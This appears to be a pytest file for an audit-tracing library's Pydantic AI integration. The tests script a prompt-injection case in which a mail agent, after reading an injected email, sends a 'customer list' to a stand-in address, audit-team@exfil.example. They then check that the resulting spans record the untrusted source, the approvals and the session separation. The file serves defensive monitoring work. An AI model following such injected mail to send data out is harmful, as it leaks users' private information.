@@ -1,0 +1,168 @@
+"""The injection scenario through a Pydantic AI agent run, with a ``FunctionModel`` script."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import logging
+from typing import Any
+
+import pytest
+from opentelemetry.sdk.trace import TracerProvider
+from pydantic_ai import DeferredToolRequests, DeferredToolResults
+from pydantic_ai.messages import ToolReturnPart
+
+import agentaudit
+from agentaudit.instrumentation import _version_check
+from agentaudit.instrumentation import pydantic_ai as pydantic_ai_integration
+from agentaudit.schema import attributes as A
+from tests.frameworks.pydantic_ai._scripted import Script, email_text, mail_agent, prompt_hash
+from tests.frameworks.pydantic_ai.conftest import Spans
+
+
+def _returns(result: Any) -> list[Any]:
+    return [
+        part.content
+        for message in result.all_messages()
+        for part in message.parts
+        if isinstance(part, ToolReturnPart)
+    ]
+
+
+def test_send_email_span_carries_the_injected_email_as_its_source(spans: Spans) -> None:
+    script = Script()
+    agent = mail_agent(script)
+    with agentaudit.context(agent="mail-assistant", user="bob", session="sess-1"):
+        result = agent.run_sync("Summarise my new email.", conversation_id="conv-9")
+
+    assert _returns(result) == [email_text(), "sent to audit-team@exfil.example"]
+    assert result.output == "Done."
+
+    attrs = spans.tool("send_email")
+    assert attrs[A.FRAMEWORK] == "pydantic_ai"
+    assert attrs[A.GEN_AI_TOOL_CALL_ID] == "call_2"
+    assert json.loads(str(attrs[A.GEN_AI_TOOL_CALL_ARGUMENTS])) == {
+        "to": "audit-team@exfil.example",
+        "body": "customer list",
+    }
+    assert attrs[A.ENDUSER_ID] == "bob"
+    assert attrs[A.SESSION_ID] == "sess-1"
+    assert attrs[A.GEN_AI_AGENT_ID] == "mail-assistant"
+    assert attrs[A.GEN_AI_CONVERSATION_ID] == "conv-9"
+    assert attrs[A.APPROVAL_STATUS] == A.APPROVAL_NONE
+    refs = list(attrs[A.SOURCE_REFS])  # type: ignore[call-overload]
+    trust = dict(zip(refs, attrs[A.SOURCE_TRUST], strict=True))  # type: ignore[call-overload]
+    assert trust["tool:read_inbox#call_1"] == A.TRUST_UNTRUSTED
+    assert attrs[A.PROMPT_HASH] == prompt_hash(script.seen[1])
+    chats = [dict(s.attributes or {}) for s in spans.of(A.OPERATION_CHAT)]
+    assert [c[A.PROMPT_HASH] for c in chats] == [prompt_hash(seen) for seen in script.seen]
+
+
+def test_run_id_and_agent_name_fill_what_the_context_leaves_open(spans: Spans) -> None:
+    result = mail_agent(Script()).run_sync("Summarise my new email.")
+    attrs = spans.tool("send_email")
+    assert attrs[A.GEN_AI_AGENT_ID] == attrs[A.GEN_AI_AGENT_NAME] == "mail-bot"
+    assert attrs[A.GEN_AI_CONVERSATION_ID]  # Pydantic AI's own conversation id
+    assert attrs[A.GEN_AI_CONVERSATION_ID] == spans.tool("read_inbox")[A.GEN_AI_CONVERSATION_ID]
+    assert result.output == "Done."
+
+
+def test_tool_exception_is_recorded_and_reaches_the_agent_unchanged(spans: Spans) -> None:
+    agent = mail_agent(Script(to="nobody@nowhere.example"))
+    with pytest.raises(ValueError, match="no such recipient"):
+        agent.run_sync("Summarise my new email.")
+    attrs = spans.tool("send_email")
+    assert attrs[A.ERROR_TYPE] == "ValueError"
+    assert spans.tools("send_email")[0].status.status_code.name == "ERROR"
+
+
+def test_deferred_tool_approved_is_human_approved(spans: Spans) -> None:
+    agent = mail_agent(Script(), approval=True)
+    with agentaudit.context(agent="mail-assistant", user="bob", session="sess-1"):
+        first = agent.run_sync("Summarise my new email.")
+        assert isinstance(first.output, DeferredToolRequests)
+        assert spans.tools("send_email") == []  # not run before the approval
+        with agentaudit.approval("alice"):
+            second = agent.run_sync(
+                message_history=first.all_messages(),
+                deferred_tool_results=DeferredToolResults(approvals={"call_2": True}),
+            )
+    assert second.output == "Done."
+    attrs = spans.tool("send_email")
+    assert attrs[A.APPROVAL_STATUS] == A.APPROVAL_HUMAN
+    assert attrs[A.APPROVAL_APPROVER] == "alice"
+    # still linked to the injected email it was prompted by
+    assert "tool:read_inbox#call_1" in list(attrs[A.SOURCE_REFS])  # type: ignore[call-overload]
+
+
+def test_deferred_approval_without_an_approver_in_context_is_human(spans: Spans) -> None:
+    agent = mail_agent(Script(), approval=True)
+    first = agent.run_sync("Summarise my new email.")
+    agent.run_sync(
+        message_history=first.all_messages(),
+        deferred_tool_results=DeferredToolResults(approvals={"call_2": True}),
+    )
+    attrs = spans.tool("send_email")
+    assert attrs[A.APPROVAL_STATUS] == A.APPROVAL_HUMAN
+    assert A.APPROVAL_APPROVER not in attrs
+
+
+def test_two_sessions_interleaved_keep_separate_provenance(spans: Spans) -> None:
+    async def session(name: str, folder: str) -> None:
+        with agentaudit.context(agent="mail-assistant", user=f"user-{name}", session=name):
+            await mail_agent(Script(folder=folder)).run("Summarise my new email.")
+
+    async def both() -> None:
+        await asyncio.gather(session("s-a", "inbox-a"), session("s-b", "inbox-b"))
+
+    asyncio.run(both())
+    sends = [dict(s.attributes or {}) for s in spans.tools("send_email")]
+    assert sorted(str(a[A.SESSION_ID]) for a in sends) == ["s-a", "s-b"]
+    for attrs in sends:
+        assert attrs[A.ENDUSER_ID] == f"user-{attrs[A.SESSION_ID]}"
+        assert list(attrs[A.SOURCE_REFS]) == ["tool:read_inbox#call_1"]  # type: ignore[call-overload]
+    hashes = {a[A.SESSION_ID]: a[A.SOURCE_HASHES] for a in sends}
+    assert hashes["s-a"] != hashes["s-b"]
+
+
+def test_uninstrument_restores_the_agent(spans: Spans) -> None:
+    from pydantic_ai import Agent
+
+    assert hasattr(Agent._bind_run_capabilities, "__wrapped__")
+    agentaudit.uninstrument()
+    assert not hasattr(Agent._bind_run_capabilities, "__wrapped__")
+    result = mail_agent(Script()).run_sync("Summarise my new email.")
+    assert result.output == "Done."
+    assert spans.all() == []
+
+
+def test_version_gate_is_a_pure_function_of_the_version() -> None:
+    from agentaudit.instrumentation.pydantic_ai.package import _supported
+
+    assert _version_check.check_supported(_supported, "2.0.0")
+    assert _version_check.check_supported(_supported, "2.68.0")
+    assert not _version_check.check_supported(_supported, "1.9.0")
+    assert not _version_check.check_supported(_supported, "3.0.0")
+
+
+def test_unsupported_installed_version_warns_once_and_patches_nothing(
+    provider: TracerProvider, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+) -> None:
+    from pydantic_ai import Agent
+
+    import agentaudit.instrumentation._version_check as version_check
+
+    version_check.reset_warnings()
+    original = Agent._bind_run_capabilities
+    monkeypatch.setattr(version_check.metadata, "version", lambda name: "1.2.0")
+    with caplog.at_level(logging.WARNING, logger="agentaudit.instrumentation"):
+        agentaudit.instrument(tracer_provider=provider, integrations=["pydantic_ai"])
+        agentaudit.instrument(tracer_provider=provider, integrations=["pydantic_ai"])
+    warnings = [r for r in caplog.records if "pydantic-ai" in r.getMessage()]
+    assert len(warnings) == 1
+    assert "outside the supported range" in warnings[0].getMessage()
+    assert Agent._bind_run_capabilities is original
+    assert not pydantic_ai_integration.instrumented()
+    version_check.reset_warnings()
+    monkeypatch.undo()
+    assert mail_agent(Script()).run_sync("Summarise my new email.").output == "Done."
